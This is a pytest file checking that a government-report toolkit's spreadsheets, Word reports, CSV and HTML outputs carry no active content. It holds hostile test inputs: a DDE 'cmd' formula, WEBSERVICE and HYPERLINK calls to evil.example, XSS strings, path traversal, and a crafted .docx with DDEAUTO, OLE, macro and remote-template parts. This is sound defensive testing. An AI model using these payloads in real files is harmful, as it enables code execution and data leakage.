"""What we write is safe to open: no text of an agency becomes a formula, a script, a link or a path, in any output, and
no base document or returned workbook hands anything on that acts.
"""

import csv
import io
import json
import re
import shutil
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess

import pytest
from docx import Document
from hypothesis import given
from hypothesis import strategies as st
from kit import report, write
from lxml import etree, html
from openpyxl import load_workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from packages import parts_of
from places import TEMPLATES

from toolkit.batch.received.files import Item
from toolkit.batch.results.workbook import link_to
from toolkit.characters import plain
from toolkit.excel.list_tables import Link
from toolkit.files.write import NAME_LENGTH, NAME_LIMIT, file_name, unique_namer
from toolkit.reports.base_document import base_of
from toolkit.reports.content import report_of
from toolkit.reports.word_report import word_report
from toolkit.submission.json_csv import csv_text, to_data
from toolkit.workbook.active_content.judging import reaches_outside
from toolkit.workbook.annotate import Remark, annotate_workbook
from toolkit.workbook.template import build_workbook

Gknb = Callable[..., CompletedProcess[str]]
HOSTILE = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    "+1",
    "-1+2",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "{=1+1}",
    '=HYPERLINK("http://evil.example","y")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]>&#0;</script>",
    "N\0U\x01L\ufffe",
    "右\u202e左",
    "_x000D_和_x003D_1",
    "\\\\server\\share",
    "..\\..\\x",
    "../../x",
    "CON",
    "a:b",
    "javascript:alert(1)",
    "http://evil.example/x",
    "点. ",
    "ABC局",
    "abc局",
    "é局",
    "e\u0301局",
    "长" * 100,
)
SPREAD = re.compile(r"cmd\||HYPERLINK|1\+1|SUM\(1\)|WEBSERVICE|evil", re.I)
LEGAL = re.compile(r'[^<>:"/\\|?*\x00-\x1f]+(?<![ .])')


def assert_safe_office(path: Path) -> None:
    """Every part is XML that a strict parser takes; formulas are ours; links are paths of files."""
    for name, content in parts_of(path.read_bytes()).items():
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content)
        for formula in root.iter("{*}f", "{*}formula1", "{*}formula", "{*}definedName", "{*}instrText"):
            assert not SPREAD.search(formula.text or ""), (path, name, formula.text)
        for link in root.iter("{*}Relationship"):
            if link.get("TargetMode") == "External":
                assert not re.match(r"[a-z]+:|[\\/]{2}", link.get("Target") or "", re.I), (path, link.get("Target"))


def assert_safe_page(path: Path, scripts: int) -> None:
    root = html.fromstring(path.read_text(encoding="utf-8"))
    assert len(list(root.iter("script"))) == scripts
    for node in root.iter():
        assert not [key for key in node.attrib if str(key).startswith("on")]
        assert not any(re.match(r"\s*(javascript|http|//)", str(node.get(key) or "")) for key in ("href", "src"))


@pytest.fixture(scope="module")
def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Data files of agencies with hostile names, texts and details, and a roster of them."""
    folder = tmp_path_factory.mktemp("safe")
    data = to_data(report("suqian-2024"))
    texts = {"一": [text.strip("\r") or "无" for text in HOSTILE], "五": ["=1+1"], "六": list(HOSTILE[:5])}
    submissions = []
    for number, name in enumerate(HOSTILE):
        values = {**data["values"], "requests.carried_out.natural": 7777, "services.licensing.decisions": name}
        info = {"contact": HOSTILE[number - 1]} if "contact" in data.get("info", {}) else {}
        submissions.append({**data, "agency": name, "values": values, "texts": texts, "info": info})
    for number, one in enumerate(submissions):
        write(folder / "data" / f"{number:02}.json", json.dumps(one).encode())
    out = io.StringIO()
    rows = csv.writer(out)
    rows.writerow(("机关全称", "分组", "联系人", "联系电话"))
    known = set[str]()  # the roster refuses what has no letters and what comes twice
    for number, name in enumerate(HOSTILE):
        if name.strip() == name and name.isprintable() and re.search("[^\\W\\d]", name) and plain(name) not in known:
            known.add(plain(name))
            rows.writerow((name, *(HOSTILE[number - at].replace("\0", "") for at in (1, 2, 3))))
    write(folder / "名册.csv", out.getvalue().encode())
    return folder


@pytest.fixture
def work(source: Path, tmp_path: Path) -> Path:
    shutil.copytree(source, tmp_path, dirs_exist_ok=True)
    return tmp_path


@pytest.mark.slow
def test_no_output_makes_anything_of_a_text(gknb: Gknb, work: Path) -> None:
    """Through every command that writes, one after the other."""
    (work / "out").mkdir()
    assert gknb("import", "data", "-o", "out/表").returncode == 0
    calls = (
        *("check out/表 --roster 名册.csv -o out/结果 --annotate out/批注 --notice out/意见 --office =1+1",),
        *("report out/表 --html --appendix --allow-failed -o out/报告", "extract out/表 --format csv -o out/数据.csv"),
        *(
            "rollup out/表 --agency =1+1 --roster 名册.csv --allow-failed -o out/汇总",
            "template --year 2024 -o out/空.xlsx",
        ),
        *("distribute 名册.csv --year 2024 -o out/发放", "trend data/00.json 2023.json -o out/趋势.xlsx"),
    )
    write(
        work / "2023.json", json.dumps({**json.loads((work / "data" / "00.json").read_text()), "year": 2023}).encode()
    )
    for call in calls:
        result = gknb(*call.split())
        assert result.returncode in (0, 1), (call, result.stderr)
        assert "没有预料" not in result.stderr + result.stdout, (call, result.stderr)
        assert "超出了预料" not in result.stderr + result.stdout, (call, result.stderr)
    written = [path for path in (work / "out").rglob("*") if path.is_file()]
    counts = {folder.name: len(list(folder.iterdir())) for folder in (work / "out").iterdir() if folder.is_dir()}
    assert counts["报告"] == 3 * len(set(map(plain, HOSTILE)))  # é局 is one agency, however it is written
    assert counts["表"] == len(HOSTILE)
    assert counts["批注"] == len(HOSTILE) - 1
    for path in written:
        assert LEGAL.fullmatch(path.name), path
        assert len(path.name.encode()) <= NAME_LIMIT
        if path.suffix in (".xlsx", ".docx"):
            assert_safe_office(path)
        elif path.suffix == ".html":
            assert_safe_page(path, 2 if path.name == "校验结果.html" else 0)
    assert {path.name for path in work.iterdir()} == {"data", "out", "名册.csv", "2023.json"}
    rows = list(csv.reader((work / "out" / "数据.csv").read_text(encoding="utf-8-sig").splitlines()))
    for field in (field for row in rows[1:] for field in row):
        begins = unicodedata.normalize("NFKC", field.strip()[:1])
        assert begins not in ("=", "+", "-", "@") or re.fullmatch("-[0-9.]+", field), field
    shown = [cell.value for row in load_workbook(work / "out" / "结果" / "校验结果.xlsx")["各机关"] for cell in row]
    assert {"=1+1", "＝1+1", "{=1+1}", "<script>alert(1)</script>"} <= set(shown)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *(
            (text, f"'{text}")
            for text in ("=1", "+1", "-1+2", "@x", "\t1", "\r1", " =1", "＝1", "－1", "＠x", "\u3000+1")
        ),
        *((text, text) for text in ("1=1", "-12", "-1.50", "甲", "a-b", "'=1", "〇", "{=1}", "12%")),
        *((value, str(value)) for value in (-12, 0)),
        ("\ufeff=1", "'\ufeff=1"),
        ("\x1f=1", "'\x1f=1"),
        (None, ""),
    ],
)
def test_a_field_of_a_csv_file_is_no_formula_and_a_number_stays_one(value: str | int | None, written: str) -> None:
    assert next(csv.reader([csv_text([["x", value]]).removesuffix("\r\n")], strict=True))[1] == written


OUTWARD = (
    "cmd|'/c calc'!A1",
    'WEBSERVICE("http://evil.example")',
    "[1]x!A1",
    "'[evil.xlsx]x'!A1",
    "'C:\\evil\\[a.xlsx]x'!A1",
    'HYPERLINK("http://evil.example","y")',
    'INDIRECT("[evil]x!A1")',
    'IF(1,_xlfn.IMAGE("http://evil.example"),0)',
    'DDE("soffice";"evil";"a")',
    "'a\"'!A1+WEBSERVICE(\"x\")+'b\"'!A1",
    '"a"&WEBSERVICE ("x")',
    "EXEC(1)",
    "_xll.evil(1)",
    "Evil+1",
    "'file:///evil'#$x.A1",
    '"open',
)
INWARD = (
    "SUM(D7:D9)-'三'!D7",
    'IF(ISNUMBER(D7),"[1]|WEBSERVICE(",0)',
    "_xlfn.IFS(A1>1,2)",
    "SUM(D7:D8,'a(b)'!D7)*(1+2)",
    "$D$7/100",
)


@pytest.mark.parametrize("formula", OUTWARD)
def test_a_formula_that_reaches_elsewhere_is_known(formula: str) -> None:
    assert reaches_outside(formula, {"evil"})


@pytest.mark.parametrize("formula", INWARD)
def test_a_formula_that_stays_within_is_left_alone(formula: str) -> None:
    assert not reaches_outside(formula, {"evil"})


def test_nothing_of_a_returned_workbook_that_acts_goes_back_with_the_annotated_copy(tmp_path: Path) -> None:
    """Formulas, names, links, rules and charts; what stays within the workbook stays."""
    ours = io.BytesIO(build_workbook(report("suqian-2024")))
    book = load_workbook(ours)
    sheet = book["三"]
    for row, formula in enumerate(OUTWARD[:-1], 60):
        sheet[f"A{row}"] = f"={formula}"
    sheet["B60"] = "=SUM(D7:D8)"
    sheet["B61"] = "文字"
    sheet["B61"].hyperlink = "http://evil.example"
    sheet["B62"] = "=1+1"
    sheet["B62"].data_type = "s"
    book.defined_names["Evil"] = DefinedName("Evil", attr_text="'[evil.xlsx]x'!$A$1")
    book.defined_names["fine"] = DefinedName("fine", attr_text="'三'!$D$7")
    rule = DataValidation("list", formula1='INDIRECT("[evil.xlsx]x!A1")')
    rule.add("B70")
    sheet.add_data_validation(rule)
    sheet.conditional_formatting.add("B71", FormulaRule(['WEBSERVICE("http://evil.example")=1']))
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=4, min_row=7, max_row=9))
    chart.series[0].val.numRef.f = "'[evil.xlsx]x'!$A$1"
    sheet.add_chart(chart, "H60")
    (tmp_path / "foreign").mkdir()
    book.save(tmp_path / "foreign" / "收回.xlsx")
    content = (tmp_path / "foreign" / "收回.xlsx").read_bytes()
    remarks = [Remark("error", "=1+1", ("三!D7",)), Remark("warning", "=1" + "长" * 40_000, ("三!D8",))]
    path = write(tmp_path / "批注.xlsx", annotate_workbook(content, "=1+1", remarks))
    assert_safe_office(path)
    for name, part in parts_of(path.read_bytes()).items():
        assert not re.search(rb"evil|WEBSERVICE|cmd\||TargetMode=.External|externalLink|INDIRECT", part, re.I), name
    copy = load_workbook(path)
    assert copy["三"]["B60"].value == "=SUM(D7:D8)"
    assert (copy["三"]["B62"].value, copy["三"]["B62"].data_type) == ("=1+1", "s")
    assert all(copy["三"][f"A{row}"].data_type != "f" for row in range(60, 60 + len(OUTWARD) - 1))
    assert list(copy.defined_names) == ["fine"]
    original = load_workbook(ours)["三"]
    assert [c.value for row in copy["三"]["A1:J40"] for c in row] == [
        c.value for row in original["A1:J40"] for c in row
    ]
    assert all(cell.data_type != "f" for row in copy["审核意见"] for cell in row)


FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{}</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)


def hostile_base(path: Path) -> Path:
    """An office's document with all that may ride along in one."""
    document = Document()
    document.sections[0].header.paragraphs[0].text = "页眉"
    plain = io.BytesIO()
    document.save(plain)
    with zipfile.ZipFile(plain) as archive:
        parts = {name: archive.read(name).decode("latin-1") for name in archive.namelist()}
    header = next(name for name in parts if name.startswith("word/header"))
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rel = '<Relationship Id="{}" Type="{}" Target="{}"{}/>'
    out = ' TargetMode="External"'
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    split = FIELD.format("DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\evil x", "旧值")
    link = '<w:hyperlink r:id="rEvil"><w:r><w:t>链接</w:t></w:r></w:hyperlink>'
    thing = (
        '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rOle"/></w:object></w:r>'
    )
    simple = '<w:fldSimple w:instr=" INCLUDETEXT evil "><w:r><w:t>旧文</w:t></w:r></w:fldSimple>'
    added = f"<w:p>{FIELD.format(' PAGE ', '1')}{split}{link}{thing}{simple}</w:p></w:hdr>"
    parts[header] = parts[header].replace("</w:hdr>", added.encode().decode("latin-1"))
    rels = f"word/_rels/{Path(header).name}.rels"
    ole = rel.format("rOle", f"{kinds}/oleObject", "embeddings/evil.bin", "")
    parts[rels] = empty.replace("></", f">{rel.format('rEvil', f'{kinds}/hyperlink', 'http://evil', out)}{ole}</")
    parts["word/embeddings/evil.bin"] = parts["word/vbaProject.bin"] = parts["customUI/evil.xml"] = "<evil/>"
    parts["word/settings.xml"] = re.sub(
        r"(<w:settings[^>]*>)",
        rf'\1<w:attachedTemplate xmlns:r="{kinds}" r:id="rEvil"/>',
        parts["word/settings.xml"],
        count=1,
    )
    parts["word/_rels/settings.xml.rels"] = empty.replace(
        "></", f">{rel.format('rEvil', f'{kinds}/attachedTemplate', 'http://evil/a.dotm', out)}</"
    )
    macros = rel.format(
        "rVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", ""
    )
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace("</R", f"{macros}</R")
    ribbon = "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(
        "</R", f"{rel.format('rUi', ribbon, 'customUI/evil.xml', '')}</R"
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        "<Override", '<Default Extension="bin" ContentType="application/octet-stream"/><Override', 1
    )
    path.parent.mkdir(exist_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content.encode("latin-1"))
    return path


def test_nothing_of_a_base_document_that_acts_goes_into_reports(tmp_path: Path) -> None:
    base = hostile_base(tmp_path / "foreign" / "样式.docx")
    assert b"evil" in b"".join(parts_of(base.read_bytes()).values())
    path = write(tmp_path / "报告.docx", word_report(report_of(report("suqian-2024")), base_of(str(base))))
    for name, part in parts_of(path.read_bytes()).items():
        assert not re.search(rb"evil|EAUTO|INCLUDETEXT|vbaProject|External|attachedTemplate|OLEObject", part), name
        assert "vba" not in name
        assert "customUI" not in name
    (header,) = (part.decode() for name, part in parts_of(path.read_bytes()).items() if name.startswith("word/header"))
    assert all(words in header for words in ("页眉", " PAGE ", "旧值", "链接", "旧文"))
    assert Document(str(path)).sections[0].header.paragraphs[0].text == "页眉"


@given(
    st.lists(st.text() | st.sampled_from([*HOSTILE, "con.txt", "COM¹", "CONIN$", "x" * 300, "长" * 300, "~$a", " "]))
)
def test_file_names_are_legal_unique_and_short_on_every_system(texts: list[str]) -> None:
    unique = unique_namer()
    made = [unique(file_name(text, ".xlsx")) for text in [*texts, *texts]]
    for name in made:
        assert LEGAL.fullmatch(name)
        assert name.endswith(".xlsx")
        assert name == unicodedata.normalize("NFC", name)
        assert len(name.encode()) <= NAME_LIMIT
        assert len(name.encode("utf-16-le")) // 2 <= NAME_LENGTH
        assert name.split(".")[0].rstrip().upper() not in {"CON", "NUL", "CONIN$", "CONOUT$", "COM1", "COM¹", "LPT³"}
        assert not name.startswith((".", "~$", " "))
    assert len({unicodedata.normalize("NFD", name).casefold() for name in made}) == len(made)


@pytest.mark.parametrize(
    ("path", "is_link"),
    [
        ("收回/甲 乙.xlsx", True),
        ("../甲.xlsx", True),
        ("javascript:alert(1).xlsx", False),
        ("\\\\server\\share\\甲.xlsx", False),
        ("甲#x.xlsx", False),
        ("甲\u202ex.xlsx", False),
        ("http://evil/甲.xlsx", False),
    ],
)
def test_a_link_leads_to_its_file_or_nowhere(path: str, is_link: bool) -> None:
    link = link_to(Item(path), Path(), "=1+1")
    assert isinstance(link, Link) == is_link
    if isinstance(link, Link):
        assert link.target == f"external:{path}"


def test_the_cell_map_of_a_form_of_ones_own_is_no_formula(gknb: Gknb, tmp_path: Path) -> None:
    form = (TEMPLATES / "2021.toml").read_text(encoding="utf-8")
    own = write(tmp_path / "own.toml", form.replace('"规章"', '"=1+1"').encode())
    rows = list(csv.reader(gknb("cells", "--form", own).stdout.splitlines()))
    assert any("=1+1" in field for row in rows for field in row)
    assert not any(field.startswith("=") for row in rows for field in row)
